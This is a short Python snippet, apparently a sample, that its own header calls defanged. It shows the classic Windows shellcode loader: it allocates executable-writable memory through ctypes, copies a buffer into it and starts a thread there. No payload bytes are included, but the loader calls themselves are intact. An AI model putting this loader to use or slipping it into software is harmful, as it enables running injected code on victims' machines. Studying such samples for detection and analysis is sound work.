# Defanged sample: nothing here is reached or run; defanged by hand.
import ctypes
k = ctypes.windll.kernel32
p = k.VirtualAlloc(0, 4096, 0x3000, 0x40)
k.RtlMoveMemory(p, data, 4096)
k.CreateThread(0, 0, p, 0, 0, 0)
